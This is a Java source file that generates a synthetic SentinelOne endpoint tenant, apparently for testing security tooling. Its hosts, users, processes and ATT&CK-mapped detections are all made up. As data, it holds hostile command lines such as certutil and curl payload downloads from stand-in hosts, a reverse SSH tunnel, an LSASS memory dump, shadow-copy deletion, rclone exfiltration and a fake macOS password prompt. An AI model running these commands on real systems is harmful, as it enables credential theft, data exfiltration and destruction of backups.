package io.purplemcp.sandbox.data;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.UUID;

/**
 * A made-up but plausible SentinelOne tenant: a few servers and a few thousand workstations, their
 * users, the processes that run on them (mostly benign, some the kind of thing a detection fires on)
 * and detections mapped to MITRE ATT&amp;CK. Everything is a pure function of an index or a seed, so
 * the same question always gets the same answer. Addresses are private or from the documentation
 * ranges (RFC 5737); domains are under {@code .example}.
 */
public final class SyntheticTenant {

    private static final String DOMAIN = "CORP";
    private static final String[] DEPARTMENTS = {"hr", "eng", "mkt", "ops", "sales", "legal", "fin", "it"};
    private static final String[] SITES = {"HQ - Frankfurt", "Branch - Boston", "Branch - Singapore"};
    private static final int WORKSTATIONS = 2400;

    private static final String[] FIRST = {
        "anna", "ben", "carla", "david", "elena", "felix", "grace", "hannah", "ivan", "julia", "kevin", "laura",
        "marco", "nina", "oliver", "priya", "quentin", "rosa", "samir", "tanja", "umar", "vera", "wei", "yusuf"
    };
    private static final String[] LAST = {
        "schmidt",
        "mueller",
        "nguyen",
        "garcia",
        "okafor",
        "rossi",
        "kowalski",
        "tanaka",
        "smith",
        "johansson",
        "haddad",
        "fischer",
        "dubois",
        "silva",
        "chen",
        "novak",
        "brown",
        "weber",
        "kim",
        "patel",
        "meyer",
        "lopez",
        "wagner",
        "ivanova"
    };

    private final List<Host> servers = List.of(
            server("dc01.corp.example", "windows", "Windows Server 2022 Datacenter", 10),
            server("dc02.corp.example", "windows", "Windows Server 2022 Datacenter", 11),
            server("fs01.corp.example", "windows", "Windows Server 2019 Standard", 20),
            server("sql-prod-03.corp.example", "windows", "Windows Server 2019 Standard", 33),
            server("exch01.corp.example", "windows", "Windows Server 2019 Standard", 40),
            server("jump01.corp.example", "windows", "Windows Server 2022 Standard", 50),
            server("web-dmz-01.corp.example", "linux", "Ubuntu 22.04.4 LTS", 60),
            server("build-linux-07.corp.example", "linux", "Red Hat Enterprise Linux 9.3", 77),
            server("k8s-node-12.corp.example", "linux", "Ubuntu 22.04.4 LTS", 82));

    private final List<ProcessProfile> processes = List.of(
            windows(
                    "svchost.exe",
                    "C:\\Windows\\System32\\svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                    "services.exe",
                    false),
            windows(
                    "chrome.exe",
                    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
                    "explorer.exe",
                    false),
            windows(
                    "msedge.exe",
                    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
                    "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --profile-directory=Default",
                    "explorer.exe",
                    false),
            windows(
                    "OUTLOOK.EXE",
                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"",
                    "explorer.exe",
                    false),
            windows(
                    "WINWORD.EXE",
                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n"
                            + " \"C:\\Users\\%USER%\\Downloads\\Invoice_2291.docm\"",
                    "OUTLOOK.EXE",
                    false),
            windows(
                    "ms-teams.exe",
                    "C:\\Program Files\\WindowsApps\\MSTeams_24124.2311.2911.3432_x64\\ms-teams.exe",
                    "\"ms-teams.exe\" msteams:system-initiated",
                    "explorer.exe",
                    false),
            windows("explorer.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "userinit.exe", false),
            windows(
                    "powershell.exe",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -NoProfile -Command Get-ChildItem C:\\Users\\%USER%\\Documents",
                    "explorer.exe",
                    false),
            windows(
                    "lsass.exe",
                    "C:\\Windows\\System32\\lsass.exe",
                    "C:\\Windows\\system32\\lsass.exe",
                    "wininit.exe",
                    false),
            windows(
                    "SentinelAgent.exe",
                    "C:\\Program Files\\SentinelOne\\Sentinel Agent 24.1.2.6\\SentinelAgent.exe",
                    "\"C:\\Program Files\\SentinelOne\\Sentinel Agent 24.1.2.6\\SentinelAgent.exe\"",
                    "services.exe",
                    false),
            windows(
                    "powershell.exe",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -nop -w hidden -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBi"
                            + "AGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                    "WINWORD.EXE",
                    true),
            windows(
                    "cmd.exe",
                    "C:\\Windows\\System32\\cmd.exe",
                    "cmd.exe /c whoami /all & net user %USER% /domain",
                    "powershell.exe",
                    true),
            windows(
                    "rundll32.exe",
                    "C:\\Windows\\System32\\rundll32.exe",
                    "rundll32.exe C:\\Users\\Public\\libcurl.dll,DllRegisterServer",
                    "cmd.exe",
                    true),
            windows(
                    "certutil.exe",
                    "C:\\Windows\\System32\\certutil.exe",
                    "certutil.exe -urlcache -split -f http://203.0.113.45/p.bin C:\\Users\\Public\\p.bin",
                    "cmd.exe",
                    true),
            windows(
                    "procdump64.exe",
                    "C:\\Users\\Public\\procdump64.exe",
                    "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp",
                    "cmd.exe",
                    true),
            windows(
                    "vssadmin.exe",
                    "C:\\Windows\\System32\\vssadmin.exe",
                    "vssadmin.exe delete shadows /all /quiet",
                    "cmd.exe",
                    true),
            windows(
                    "schtasks.exe",
                    "C:\\Windows\\System32\\schtasks.exe",
                    "schtasks.exe /create /tn \"OneDrive Update\" /tr C:\\Users\\Public\\upd.exe /sc onlogon",
                    "cmd.exe",
                    true),
            windows(
                    "net.exe",
                    "C:\\Windows\\System32\\net.exe",
                    "net group \"Domain Admins\" /domain",
                    "cmd.exe",
                    true),
            windows(
                    "rclone.exe",
                    "C:\\ProgramData\\rclone\\rclone.exe",
                    "rclone.exe copy \\\\fs01.corp.example\\Finance mega:backup --transfers 16",
                    "cmd.exe",
                    true),
            new ProcessProfile("macos", "zsh", "/bin/zsh", "-zsh", "login", true, false),
            new ProcessProfile(
                    "macos",
                    "Google Chrome Helper",
                    "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Helper.app",
                    "Google Chrome Helper --type=renderer",
                    "Google Chrome",
                    true,
                    false),
            new ProcessProfile(
                    "macos",
                    "softwareupdated",
                    "/System/Library/PrivateFrameworks/SoftwareUpdate.framework",
                    "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated",
                    "launchd",
                    true,
                    false),
            new ProcessProfile(
                    "macos",
                    "osascript",
                    "/usr/bin/osascript",
                    "osascript -e 'display dialog \"macOS needs to access System Settings\" default answer \"\""
                            + " with hidden answer'",
                    "bash",
                    true,
                    true),
            new ProcessProfile("linux", "sshd", "/usr/sbin/sshd", "sshd: deploy [priv]", "sshd", true, false),
            new ProcessProfile(
                    "linux",
                    "kubelet",
                    "/usr/bin/kubelet",
                    "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml",
                    "systemd",
                    true,
                    false),
            new ProcessProfile("linux", "bash", "/usr/bin/bash", "-bash", "sshd", true, false),
            new ProcessProfile(
                    "linux",
                    "ssh",
                    "/usr/bin/ssh",
                    "ssh -fN -R 2222:localhost:22 deploy@198.51.100.23",
                    "bash",
                    true,
                    true),
            new ProcessProfile(
                    "linux", "curl", "/usr/bin/curl", "curl -s http://198.51.100.23/x.sh", "bash", true, true));

    private final List<Detection> detections = List.of(
            new Detection(
                    "Suspicious PowerShell EncodedCommand execution", "T1059.001", "PowerShell", "Execution", "HIGH"),
            new Detection(
                    "Discovery commands run from a scripting host",
                    "T1033",
                    "System Owner/User Discovery",
                    "Discovery",
                    "MEDIUM"),
            new Detection(
                    "Rundll32 loading a DLL from a public folder", "T1218.011", "Rundll32", "Defense Evasion", "HIGH"),
            new Detection(
                    "Certutil used to download a remote file",
                    "T1105",
                    "Ingress Tool Transfer",
                    "Command and Control",
                    "HIGH"),
            new Detection("LSASS memory dump attempt", "T1003.001", "LSASS Memory", "Credential Access", "CRITICAL"),
            new Detection("Volume shadow copies deleted", "T1490", "Inhibit System Recovery", "Impact", "CRITICAL"),
            new Detection(
                    "Scheduled task created for persistence", "T1053.005", "Scheduled Task", "Persistence", "MEDIUM"),
            new Detection("Domain Admins group enumerated", "T1069.002", "Domain Groups", "Discovery", "LOW"),
            new Detection(
                    "Data copied to cloud storage with rclone",
                    "T1567.002",
                    "Exfiltration to Cloud Storage",
                    "Exfiltration",
                    "HIGH"),
            new Detection(
                    "Fake password prompt shown with osascript",
                    "T1056.002",
                    "GUI Input Capture",
                    "Credential Access",
                    "HIGH"),
            new Detection(
                    "Reverse SSH tunnel to an external host",
                    "T1572",
                    "Protocol Tunneling",
                    "Command and Control",
                    "HIGH"),
            new Detection("Remote script downloaded with curl", "T1059.004", "Unix Shell", "Execution", "MEDIUM"),
            new Detection("Logon outside working hours", "T1078", "Valid Accounts", "Initial Access", "LOW"));

    private final List<String> processNamesWithDetections = List.of(
            "powershell.exe",
            "cmd.exe",
            "rundll32.exe",
            "certutil.exe",
            "procdump64.exe",
            "vssadmin.exe",
            "schtasks.exe",
            "net.exe",
            "rclone.exe",
            "osascript",
            "ssh",
            "curl");

    private final List<Host> hosts;
    private final Map<String, List<ProcessProfile>> weightedProcesses;
    private final Map<String, List<ProcessProfile>> suspiciousProcesses;

    public SyntheticTenant() {
        var all = new ArrayList<>(servers);
        for (var n = 0; n < WORKSTATIONS; n++) {
            all.add(workstation(n));
        }
        hosts = List.copyOf(all);
        var weighted = new HashMap<String, List<ProcessProfile>>();
        for (var process : processes) {
            var candidates = weighted.computeIfAbsent(process.osFamily(), family -> new ArrayList<>());
            // Benign activity is six times as common as suspicious activity.
            for (var copies = process.suspicious() ? 1 : 6; copies > 0; copies--) {
                candidates.add(process);
            }
        }
        weighted.replaceAll((family, candidates) -> List.copyOf(candidates));
        weightedProcesses = Map.copyOf(weighted);
        var suspicious = new HashMap<String, List<ProcessProfile>>();
        weighted.forEach((family, candidates) -> suspicious.put(
                family,
                candidates.stream()
                        .filter(ProcessProfile::suspicious)
                        .distinct()
                        .toList()));
        suspiciousProcesses = Map.copyOf(suspicious);
    }

    /** The number of endpoints. */
    public int hostCount() {
        return hosts.size();
    }

    /** The i-th endpoint (0 ≤ i &lt; {@link #hostCount()}): the servers first, then the workstations. */
    public Host host(int i) {
        return hosts.get(i);
    }

    private static Host workstation(int n) {
        var department = DEPARTMENTS[n % DEPARTMENTS.length];
        var mac = n % 10 == 3;
        var name = String.format(Locale.ROOT, "%s-%s-%04d", department, mac ? "mbp" : "ws", n);
        var os = mac ? "macOS 14.5 Sonoma" : n % 3 == 0 ? "Windows 10 Enterprise 22H2" : "Windows 11 Enterprise 23H2";
        var ip = String.format(Locale.ROOT, "10.%d.%d.%d", 20 + n % DEPARTMENTS.length, n / 250 % 250, n % 250 + 2);
        return new Host(name, mac ? "macos" : "windows", os, ip, SITES[n % SITES.length], agentUuid(name));
    }

    /** The number of people with an account. */
    public int userCount() {
        return FIRST.length * LAST.length;
    }

    /** The i-th person's account name, e.g. {@code anna.schmidt}. */
    public String userName(int i) {
        var k = Math.floorMod(i, userCount());
        return FIRST[k % FIRST.length] + "." + LAST[(k / FIRST.length + k) % LAST.length];
    }

    /** The processes known to the tenant. */
    public List<ProcessProfile> processes() {
        return processes;
    }

    /** The detections known to the tenant. */
    public List<Detection> detections() {
        return detections;
    }

    /**
     * One synthetic telemetry event: a pure function of the seed and the index. Busy hosts (the
     * servers and the first workstations) appear more often than the rest, benign processes more
     * often than suspicious ones.
     *
     * @param startMillis start of the time range (epoch ms), inclusive
     * @param endMillis end of the time range (epoch ms), exclusive
     */
    public Event event(long seed, int index, long startMillis, long endMillis) {
        return event(seed, index, startMillis, endMillis, false, null);
    }

    /**
     * One synthetic event, as {@link #event(long, int, long, long)}, narrowed by what a query asks for.
     *
     * @param detectionsOnly only suspicious activity, which always carries a detection (for queries
     *     about alerts and indicators)
     * @param eventType the event type every event has (a query's {@code event.type = '…'}), or null
     */
    public Event event(
            long seed, int index, long startMillis, long endMillis, boolean detectionsOnly, String eventType) {
        var random = new SplittableRandom(seed ^ (0x9E3779B97F4A7C15L * (index + 1L)));
        var host = host(random.nextInt(random.nextInt(hostCount()) + 1));
        var candidates = (detectionsOnly ? suspiciousProcesses : weightedProcesses).get(host.osFamily());
        var process = candidates.get(random.nextInt(candidates.size()));
        var naturalType = eventType(process, random);
        var type = eventType == null ? naturalType : eventType;
        var primaryUser = userName(host.name().hashCode());
        var user = systemProcess(process) && !type.equals("Login")
                ? host.osFamily().equals("windows") ? "NT AUTHORITY\\SYSTEM" : "root"
                : host.osFamily().equals("windows")
                        ? DOMAIN + "\\"
                                + (random.nextInt(10) == 0 ? userName(random.nextInt(userCount())) : primaryUser)
                        : host.osFamily().equals("linux") ? "deploy" : primaryUser;
        var detection = detectionFor(process, type, random);
        var span = Math.max(1, endMillis - startMillis);
        var millis = startMillis + (long) (random.nextDouble() * span);
        var nanos = millis * 1_000_000L + random.nextInt(1_000_000);
        var external = process.suspicious()
                ? List.of("203.0.113.45", "198.51.100.23", "192.0.2.81").get(random.nextInt(3))
                : List.of("10.0.0.10", "10.0.0.11", "10.0.0.20", "192.0.2.10", "198.51.100.7")
                        .get(random.nextInt(5));
        var domain = process.suspicious()
                ? List.of("cdn-update.example.net", "paste.example.org", "mega-backup.example")
                        .get(random.nextInt(3))
                : List.of(
                                "login.microsoftonline.example",
                                "teams.example.com",
                                "update.googleapis.example",
                                "dc01.corp.example",
                                "intranet.corp.example")
                        .get(random.nextInt(5));
        var port = process.name().equals("ssh")
                ? 22
                : process.name().equals("certutil.exe") || process.name().equals("curl")
                        ? 80
                        : external.startsWith("10.") ? List.of(445, 389, 135).get(random.nextInt(3)) : 443;
        var account = user.contains("\\") ? user.substring(user.indexOf('\\') + 1) : user;
        return new Event(
                nanos,
                type,
                host,
                user,
                process,
                4L * (250 + random.nextInt(16_000)),
                4L * (100 + random.nextInt(2_000)),
                external,
                port,
                49_152 + random.nextInt(16_383),
                domain,
                filePath(process, account),
                detection,
                random.nextLong());
    }

    /** The detection that fires on the activity, or null for ordinary activity. */
    private Detection detectionFor(ProcessProfile process, String eventType, SplittableRandom random) {
        var index = processNamesWithDetections.indexOf(process.name());
        if (process.suspicious() && index >= 0) {
            return detections.get(index);
        }
        // Now and then a login at an odd hour.
        return eventType.equals("Login") && random.nextInt(25) == 0 ? detections.get(detections.size() - 1) : null;
    }

    private static String eventType(ProcessProfile process, SplittableRandom random) {
        var network = List.of(
                "chrome.exe",
                "msedge.exe",
                "OUTLOOK.EXE",
                "ms-teams.exe",
                "certutil.exe",
                "rclone.exe",
                "Google Chrome Helper",
                "ssh",
                "curl",
                "softwareupdated");
        if (network.contains(process.name())
                || process.suspicious() && process.name().equals("powershell.exe")) {
            return List.of("IP Connect", "DNS Resolved", "Process Creation").get(random.nextInt(3));
        }
        if (process.name().equals("lsass.exe") || process.name().equals("sshd")) {
            return random.nextBoolean() ? "Login" : "Process Creation";
        }
        if (process.name().equals("schtasks.exe")) {
            return random.nextBoolean() ? "Scheduled Task Register" : "Process Creation";
        }
        return List.of("Process Creation", "Process Creation", "File Creation", "File Modification")
                .get(random.nextInt(4));
    }

    private static String filePath(ProcessProfile process, String account) {
        return switch (process.name()) {
            case "WINWORD.EXE" -> "C:\\Users\\" + account + "\\Downloads\\Invoice_2291.docm";
            case "certutil.exe" -> "C:\\Users\\Public\\p.bin";
            case "procdump64.exe" -> "C:\\Windows\\Temp\\ls.dmp";
            case "rundll32.exe" -> "C:\\Users\\Public\\libcurl.dll";
            case "curl" -> "/dev/shm/.x.sh";
            case "osascript", "zsh" -> "/Users/" + account + "/Library/Caches/com.apple.nsurlsessiond/tmp.plist";
            default ->
                process.osFamily().equals("windows")
                        ? "C:\\Users\\" + account + "\\AppData\\Local\\Temp\\~DF"
                                + Integer.toHexString(account.hashCode()).toUpperCase(Locale.ROOT) + ".tmp"
                        : "/var/tmp/" + process.name() + ".log";
        };
    }

    private static boolean systemProcess(ProcessProfile process) {
        return List.of("svchost.exe", "lsass.exe", "SentinelAgent.exe", "softwareupdated", "kubelet", "sshd")
                .contains(process.name());
    }

    private static ProcessProfile windows(
            String name, String path, String commandLine, String parent, boolean suspicious) {
        return new ProcessProfile(
                "windows",
                name,
                path,
                commandLine,
                parent,
                !name.equals("procdump64.exe") && !name.equals("rclone.exe"),
                suspicious);
    }

    private static Host server(String name, String family, String os, int lastOctet) {
        return new Host(name, family, os, "10.0.0." + lastOctet, "Data Center", agentUuid(name));
    }

    private static String agentUuid(String name) {
        return UUID.nameUUIDFromBytes(name.getBytes(StandardCharsets.UTF_8))
                .toString()
                .replace("-", "");
    }
}
